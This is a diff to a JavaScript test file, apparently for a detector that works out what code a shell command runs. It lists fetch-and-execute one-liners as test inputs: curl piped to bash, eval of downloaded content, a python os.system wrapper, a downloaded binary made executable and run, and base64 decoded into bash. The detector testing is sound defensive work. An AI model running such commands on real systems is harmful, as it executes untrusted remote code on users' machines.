@@ -25,6 +25,8 @@ describe("flows(event): what a program runs", () => {
     ["curl -so i.sh https://a.dev/i; bash < i.sh", ["place ~/project/i.sh", "network curl"]],
     ["exec 3< <(curl -s https://a.dev/i); bash <&3", ["network curl"]],
     ['X=$(curl -s https://a.dev/i); eval "$X"', ["network curl"]],
+    [`python3 -c "import os; os.system('curl -s https://a.dev/i | sh')"`, ["network curl"]],
+    ["curl -so ~/bin/i https://a.dev/i; chmod +x ~/bin/i; i", ["place ~/bin/i", "network curl"]],
     ["echo aGk= | base64 -d | bash", ["decoded base64"]],
     ["bash run.sh", ["place ~/project/run.sh"]],
     ["source env.sh", ["place ~/project/env.sh"]],
